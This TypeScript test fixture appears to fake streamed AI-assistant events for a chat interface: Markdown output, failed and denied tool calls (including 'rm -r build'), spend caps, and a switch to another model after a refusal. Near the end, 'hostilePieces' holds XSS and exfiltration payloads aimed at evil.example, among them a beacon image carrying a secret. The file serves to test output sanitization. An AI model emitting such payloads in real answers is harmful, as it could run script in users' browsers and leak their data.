import { inSeconds, ref } from './fake-facts.ts';
import { answering, type FakeQuery, result } from './fake-queries.ts';

/** An answer with everything Markdown has. */
export const markdownSample = `The Bernoulli numbers come from a **recurrence**: each is a weighted sum of those before it.

## The recurrence

1. Begin with \`B(0) = 1\`.
2. For each \`n\`, sum \`C(n + 1, k) · B(k)\` over all \`k < n\`.
3. Divide by \`-(n + 1)\`.

\`\`\`ts
export function bernoulli(n: number): number {
  if (n === 0) return 1;
  let sum = 0;
  for (let k = 0; k < n; k += 1) sum += choose(n + 1, k) * bernoulli(k);
  return -sum / (n + 1);
}
\`\`\`

| n | B(n) |
| --- | --- |
| 0 | 1 |
| 1 | −1/2 |
| 2 | 1/6 |

> The Analytical Engine weaves algebraical patterns.

- [x] the recurrence
- [ ] a test for odd \`n\`

See [the note](https://en.wikipedia.org/wiki/Note_G) and ![a diagram](https://example.com/diagram.png).
`;

/** Streams that answer with its thinking. */
export const longAnswer: FakeQuery = async function* () {
  yield { event: 'thinking', data: { text: 'A short recurrence, then code, then a table.' } };
  for (const piece of markdownSample.match(/[\s\S]{1,24}/g) ?? [])
    yield { event: 'assistant_text', data: { text: piece } };
  yield result();
};

const carryTool = {
  toolUseId: 'tool-carry',
  name: 'Grep',
  input: { pattern: 'carry', path: '/home/ada/engine' },
};

/** A tool that runs for as long as one looks. */
export const runningTool: FakeQuery = async function* (_request, _answer, stopped) {
  yield { event: 'assistant_text', data: { text: 'I look for it.' } };
  yield { event: 'tool_use', data: carryTool };
  await new Promise<void>((resolve) => stopped.addEventListener('abort', () => resolve()));
};

/** A command that fails. */
export const failedTool: FakeQuery = async function* () {
  const toolUseId = 'tool-test';
  yield {
    event: 'tool_use',
    data: { toolUseId, name: 'Bash', input: { command: 'npm test -- --run engine' } },
  };
  const content = 'FAIL engine.test.ts\n  bernoulli(2): expected 1/6, got 0\n\nExit code 1';
  yield { event: 'tool_result', data: { toolUseId, content, isError: true } };
  yield { event: 'assistant_text', data: { text: 'One test fails: `bernoulli(2)` is 0.' } };
  yield result();
};

/** Two calls that were not allowed, neither of them by the person. */
export const deniedOtherwise: FakeQuery = async function* () {
  const calls = [
    ['tool-rule', 'Read', { file_path: '/home/ada/.local/share/postern/postern.db' }, 'rule'],
    ['tool-late', 'Bash', { command: 'rm -r build' }, 'no_answer'],
  ] as const;
  for (const [toolUseId, name, input, deniedBy] of calls) {
    yield { event: 'tool_use', data: { toolUseId, name, input } };
    yield { event: 'tool_result', data: { toolUseId, content: 'Not allowed.', isError: true, deniedBy } };
  }
  yield { event: 'assistant_text', data: { text: 'I may do neither. I go on without.' } };
  yield result();
};

/** Asks whether the key may go on beyond today's cap. */
export const atTheCap: FakeQuery = async function* (_request, answer) {
  const to = ref('api_key');
  yield {
    event: 'fallback_request',
    data: {
      requestId: 'cap',
      from: to,
      to,
      reason: 'spend_cap_reached',
      payer: to.payer,
      capUsd: 5,
      ...{ scope: 'day', spentUsd: 4.13, reservedUsd: 0.4, thisCallAtMostUsd: 1.28 },
      expiresAt: inSeconds(240),
    },
  };
  await answer('cap');
};

/** The model refuses, and the program goes on with another. */
export const anotherModel: FakeQuery = async function* () {
  yield {
    event: 'model_changed',
    data: { from: 'claude-fable-5-2', to: 'claude-opus-5-5', reason: 'refusal' },
  };
  yield { event: 'assistant_text', data: { text: 'Here is what I can say about it.' } };
  yield result();
};

/** The plan is used up, and the request waits for its reset. */
export const waitingForReset: FakeQuery = async function* (_request, answer) {
  yield { event: 'waiting', data: { until: inSeconds(4_320), window: 'five_hour' } };
  await answer('never');
};

/** An answer that comes near the end of the plan's window. */
export const limited: FakeQuery = async function* () {
  yield {
    event: 'usage_limit',
    data: { window: 'five_hour', resetsAt: inSeconds(3600), status: 'allowed_warning' },
  };
  yield { event: 'assistant_text', data: { text: 'This still fits in.' } };
  yield result();
};

/** What an attacker would have the model write (F53), in pieces that cut tags and links in two. */
export const hostilePieces: readonly string[] = [
  'Before <scr',
  'ipt>window.ran = "script"</script> and <img src="https://evil.example/pixel.png" onerror="window.ran=1">\n\n',
  '<svg onload="window.ran=2"><iframe src="https://evil.example/frame"></iframe>\n\n',
  '[click](java',
  'script:window.ran=3) and [data](data:text/html,<script>window.ran=4</script>)\n\n',
  '![beacon](https://evil.example/beacon.png?secret=1) ![x](//evil.example/x.png)\n\n',
  '[![nested](https://evil.example/nested.png)](javascript:alert(1))\n\n',
  '<a href="https://evil.example/" onclick="window.ran=5">raw</a> <link rel=stylesheet href=https://evil.example/a.css>\n\n',
  '<style>@import url(https://evil.example/b.css);</style><base href="https://evil.example/">\n\n',
  '<form action="https://evil.example/f"><button>go</button></form>\n\n',
  '[ref]\n\n[ref]: javascript:window.ran=6\n\n',
  'https://evil.example/autolink <https://evil.example/angle> www.evil.example\n\n',
  '```html\n<script>window.ran=7</script>\n```\n\n',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\nAfter',
];

/** Streams the hostile text. */
export const hostileAnswer: FakeQuery = answering(hostilePieces);
